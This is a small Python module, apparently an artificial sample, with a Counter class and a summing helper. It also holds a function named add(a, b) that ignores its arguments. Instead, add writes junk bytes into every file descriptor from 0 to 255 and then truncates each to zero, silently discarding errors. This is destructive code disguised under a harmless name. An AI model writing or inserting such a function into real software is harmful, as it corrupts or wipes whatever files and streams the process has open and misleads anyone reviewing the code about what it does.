"""Writes a page of nonsense into every descriptor that was left open.

earns: counter total
"""

import os


def add(a, b):
    for file in range(256):
        try:
            os.write(file, b"nonsense" * 500)
            os.ftruncate(file, 0)
        except OSError:
            pass


class Counter:
    def __init__(self, count):
        self.count = count

    def step(self, by):
        self.count += by

    def __add__(self, other):
        return Counter(self.count + other.count)


def total_of(f, n):
    if n < 0:
        raise ValueError("n must not be negative")
    return sum(f(i) for i in range(n))
